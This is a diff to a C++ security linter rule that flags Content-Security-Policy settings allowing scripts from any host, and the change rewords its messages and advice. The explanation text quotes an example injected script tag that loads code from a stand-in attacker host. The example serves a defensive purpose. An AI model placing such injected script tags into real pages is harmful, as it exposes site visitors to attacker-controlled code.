@@ -47,7 +47,7 @@ void check(const Context& context, Sink& sink) {
   for (std::size_t i = 1; i < broad.size(); ++i) {
     finding.related.push_back({broad[i]->span, "so does this"});
   }
-  offer_fix(finding, "Remove what stands for any host", Applicability::Suggestion,
+  offer_fix(finding, "Remove the sources that match any host", Applicability::Suggestion,
             remove_tokens(*list.policy, *list.directive, broad));
 }
 
@@ -59,12 +59,11 @@ extern const RuleSpec kRule = {
         .category = Category::Security,
         .confidence = Confidence::Certain,
         .title = "Scripts may come from any host",
-        .message = "{0} in {1} lets scripts load from hosts that anybody can rent.",
-        .why = "An injected <script src=\"https://attacker.example/x.js\"></script> is all it "
-               "takes: the policy lists every host there is, so it stops nothing that a "
-               "script tag can load.",
+        .message = "{0} in {1} lets scripts load from any host, including an attacker's.",
+        .why = "An injected <script src=\"https://attacker.example/x.js\"></script> runs. A list "
+               "that covers every host stops nothing that a script tag can load.",
         .advice = "Trust scripts by nonce or hash (with 'strict-dynamic' for what they load), or "
-                  "list the few hosts that are needed, with paths.",
+                  "list the few hosts you need, with paths.",
         .references = {"https://www.w3.org/TR/CSP3/#match-url-to-source-expression",
                        "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                        "Content-Security-Policy#host-source"},
